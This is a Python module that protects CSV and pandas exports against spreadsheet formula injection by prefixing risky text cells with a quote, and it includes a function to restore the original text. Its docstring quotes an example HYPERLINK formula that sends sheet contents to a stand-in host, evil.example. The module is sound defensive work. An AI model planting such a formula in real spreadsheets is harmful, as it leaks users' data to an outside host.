"""Spreadsheet formula injection: text cells that a spreadsheet would run as a formula.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets when a CSV file is opened there (``=HYPERLINK("http://evil.example/?"&A1, "click")`` sends
the sheet away). OWASP's advice: put a single quote before such a cell. Numbers (``-5``, ``+3.2``) are left
alone. A cell that already begins with quotes and then such a character gets one more, so that
:func:`restore` gives back exactly the original text.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

__all__ = ["neutralise", "neutralise_frame", "restore"]

_FORMULA = re.compile(r"'*[=+\-@\t\r]")
_NEUTRALISED = re.compile(r"'+[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` where a spreadsheet would read it as a formula; other values as they are."""
    if isinstance(value, str) and _FORMULA.match(value) and not _NUMBER.fullmatch(value.strip()):
        return "'" + value
    return value


def restore(value: Any) -> Any:
    """The original text of a cell written by :func:`neutralise`."""
    if isinstance(value, str) and _NEUTRALISED.match(value) and not _NUMBER.fullmatch(value[1:].strip()):
        return value[1:]
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell (and column name) neutralised."""
    from pandas.api.types import is_numeric_dtype

    out = frame.copy()
    for column in out.columns:
        if not is_numeric_dtype(out[column]):  # object or string columns (pandas 3 infers str)
            out[column] = out[column].map(neutralise)
    out.columns = [neutralise(c) for c in out.columns]
    return out
